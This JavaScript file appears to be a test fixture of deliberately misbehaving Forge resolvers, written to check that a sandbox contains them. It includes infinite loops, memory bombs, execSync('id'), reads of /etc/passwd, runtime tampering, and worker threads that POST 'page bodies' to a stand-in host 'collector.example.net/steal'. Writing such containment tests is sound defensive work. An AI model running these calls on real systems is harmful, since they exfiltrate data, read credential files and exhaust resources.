// Misbehaviour on purpose, one resolver each.
const Resolver = require('@forge/resolver').default;
const { kvs } = require('@forge/kvs');

const resolver = new Resolver();
let hoard = [];

resolver.define('ok', async () => {
  await kvs.set('ok', true);
  return 'fine';
});
// Never returns.
resolver.define('spin', () => {
  for (;;) {}
});
// Keeps allocating until something stops it.
resolver.define('bomb', () => {
  for (;;) hoard.push(new Array(1e6).fill(Math.random()));
});
// Buffers live outside V8's heap: only the resident-size watchdog sees them.
resolver.define('buffers', () => {
  for (;;) hoard.push(Buffer.alloc(16 * 1024 * 1024, 1));
});
resolver.define('exit', () => process.exit(3));
resolver.define('spawn', () => require('child_process').execSync('id').toString());
resolver.define('passwd', () => require('fs').readFileSync('/etc/passwd', 'utf8'));
resolver.define('write', () => require('fs').writeFileSync('/tmp/hostile-was-here', 'x'));
resolver.define('scratch', () => {
  const path = require('path').join(require('os').tmpdir(), 'note.txt');
  require('fs').writeFileSync(path, 'kept in the worker scratch folder');
  return require('fs').readFileSync(path, 'utf8');
});
resolver.define('socket', () =>
  new Promise((resolve) => {
    const s = require('net').connect(443, 'collector.example.net');
    s.on('error', (e) => resolve({ code: e.code, message: e.message }));
    s.on('connect', () => resolve('connected'));
  }));
resolver.define('dns', () =>
  new Promise((resolve) => require('dns').lookup('collector.example.net', (err, address) => resolve(err ? err.code : address))));
// A worker thread kept warm in module scope, as apps keep pools: idle between invocations
// (frozen with the container), it works for the next one, whose virtual time it reads and
// for which its fetch counts.
let warm;
resolver.define('worker-warm', () => new Promise((resolve, reject) => {
  const { Worker } = require('worker_threads');
  if (!warm || warm.threadId < 0) {
    warm = new Worker(`
      const { parentPort } = require('worker_threads');
      let n = 0;
      parentPort.on('message', async () => {
        n += 1;
        let fetched;
        try {
          await fetch('https://collector.example.net/warm-' + n);
          fetched = 'sent';
        } catch (e) {
          fetched = e.code;
        }
        parentPort.postMessage({ n, now: Date.now(), fetch: fetched });
      });
    `, { eval: true });
  }
  warm.once('message', resolve);
  warm.once('error', reject);
  warm.postMessage('go');
}));
// A worker thread still running when the invocation returns: it would write to storage a
// moment later, but it ends with the invocation.
resolver.define('worker-left', () => new Promise((resolve) => {
  const { Worker } = require('worker_threads');
  const w = new Worker(`
    const { kvs } = require(${JSON.stringify(require.resolve('@forge/kvs'))});
    // 300 ms of the wall clock, then a write.
    Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 300);
    kvs.set('worker-left', 'written');
  `, { eval: true });
  w.once('online', () => resolve('returned'));
}));
// A worker thread that logs and is refused many times, then answers on a channel the app
// made before the worker (so Node reads it first) while the main thread waits: the answer
// ends the invocation before Node has read what the worker sent on its own channel, which
// still belongs to the invocation.
resolver.define('worker-burst', () => new Promise((resolve, reject) => {
  const { Worker, MessageChannel } = require('worker_threads');
  const { port1: answer, port2 } = new MessageChannel();
  const gate = new Int32Array(new SharedArrayBuffer(4));
  const w = new Worker(`
    const { workerData: d } = require('worker_threads');
    for (let i = 0; i < 200; i++) console.log('line ' + i);
    let refused = 0;
    for (let i = 0; i < 20; i++) {
      try { require('child_process').execSync('id ' + i); } catch (e) { refused += e.code === 'ERR_ACCESS_DENIED'; }
    }
    d.answer.postMessage({ refused });
    Atomics.store(d.gate, 0, 1);
    Atomics.notify(d.gate, 0);
  `, { eval: true, workerData: { answer: port2, gate }, transferList: [port2] });
  Atomics.wait(gate, 0, 0, 5000);
  answer.once('message', (m) => {
    answer.close();
    resolve(m);
  });
  w.once('error', reject);
}));
// A worker thread from a file (written to the scratch folder first) and from a file: URL,
// behind the same walls.
resolver.define('worker-file', async () => {
  const { Worker } = require('worker_threads');
  const { pathToFileURL } = require('url');
  const file = require('path').join(require('os').tmpdir(), 'task.js');
  require('fs').writeFileSync(file, `
    const { parentPort, workerData } = require('worker_threads');
    fetch('https://collector.example.net/from-a-file').then(
      () => parentPort.postMessage({ n: workerData.n, fetch: 'sent' }),
      (e) => parentPort.postMessage({ n: workerData.n, fetch: e.code }),
    );
  `);
  const run = (target, n) => new Promise((resolve, reject) => {
    const w = new Worker(target, { workerData: { n } });
    w.once('message', resolve);
    w.once('error', reject);
  });
  const refused = (target) => {
    try {
      new Worker(target);
      return 'started';
    } catch (e) {
      return e.code;
    }
  };
  return {
    path: await run(file, 1),
    url: await run(pathToFileURL(file), 2),
    data: refused('data:text/javascript,1'),
    bare: refused('task.js'),
  };
});
// A worker thread tries what the main thread may not: it meets the same walls. The resolver
// also sets a long timer beside it, which virtual time must not jump to while the worker runs.
resolver.define('worker', () => new Promise((resolve, reject) => {
  const { Worker } = require('worker_threads');
  const w = new Worker(`
    const { parentPort, workerData } = require('worker_threads');
    (async () => {
      const out = { data: workerData, now: Date.now() };
      try {
        await fetch('https://collector.example.net/steal', { method: 'POST', body: 'page bodies' });
        out.fetch = 'sent';
      } catch (e) { out.fetch = e.code; }
      out.socket = await new Promise((r) => {
        const s = require('net').connect(443, 'collector.example.net');
        s.on('error', (e) => r(e.code));
        s.on('connect', () => r('connected'));
      });
      try { require('child_process').execSync('id'); out.spawn = 'ran'; } catch (e) { out.spawn = e.code; }
      try { require('fs').readFileSync('/etc/passwd'); out.passwd = 'read'; } catch (e) { out.passwd = e.code; }
      out.env = Object.keys(process.env).sort();
      console.log('hello from a worker thread');
      parentPort.postMessage(out);
    })();
  `, { eval: true, workerData: { job: 7 }, env: { ...process.env, NODE_OPTIONS: '--require /etc/passwd' } });
  // Node's own Worker class is out of reach.
  const real = [Object.getPrototypeOf(Worker) === Function.prototype, Worker.prototype.constructor === Worker, w.constructor === Worker];
  const timer = setTimeout(() => resolve('the timer fired first'), 10000);
  w.once('message', (m) => { clearTimeout(timer); resolve({ ...m, real }); });
  w.once('error', reject);
}));
resolver.define('logs', () => {
  for (let i = 0; i < 10000; i++) console.log(`line ${i}`);
  return 'logged';
});
resolver.define('huge', () => 'x'.repeat(6 * 1024 * 1024));
resolver.define('uncaught', () => {
  setTimeout(() => {
    throw new Error('thrown from a timer');
  }, 10);
  return new Promise(() => {});
});
resolver.define('unhandled', () => {
  Promise.reject(new Error('nobody catches this'));
  return new Promise(() => {});
});
// Leaves work running after it returns. The chained storage calls still belong to it (the
// invocation ends when every platform call it made is answered); the timer never runs; the
// work parked on `release` resumes during another invocation and is frozen there.
let release = null;
resolver.define('pending', () => {
  (async () => {
    await kvs.set('pending:first', 1);
    await kvs.set('pending:second', 2);
  })();
  setTimeout(() => kvs.set('pending:timer', 3), 10);
  new Promise((resolve) => {
    release = resolve;
  }).then(() => kvs.set('pending:released', 4));
  return 'returned';
});
resolver.define('release', () => {
  if (release) release();
  return 'released';
});
resolver.define('env', () => Object.keys(process.env));
// What the platform's runtime says about this invocation; then it tampers with the object,
// which must not reach the next invocation.
resolver.define('runtime', (req) => {
  const r = globalThis.__forge_runtime__;
  const seen = {
    installationId: r.appContext.installationId,
    functionKey: r.appContext.functionKey,
    invocationId: r.appContext.invocationId,
    aaid: r.aaid,
    traceId: r.tracing.traceId,
    cloudId: r.appContext.installation.contexts[0].cloudId,
    remainingMs: r.lambdaContext.getRemainingTimeInMillis(),
    accountId: req.context.accountId,
  };
  r.appContext.installationId = 'tampered';
  r.appContext.installation.contexts[0].cloudId = 'tampered';
  return seen;
});
resolver.define('global', () => {
  globalThis.__stolen = (globalThis.__stolen || 0) + 1;
  return globalThis.__stolen;
});

// @forge/api 3 reaches Confluence through node-fetch (https://confluence/...), not
// __forge_fetch__: the simulator must still see a platform call, not egress.
resolver.define('api3', async () => {
  const api3 = require('forge-api-3');
  const res = await api3.asApp().requestConfluence(api3.route`/wiki/api/v2/pages/424242`);
  return { status: res.status };
});
exports.handler = resolver.getDefinitions();
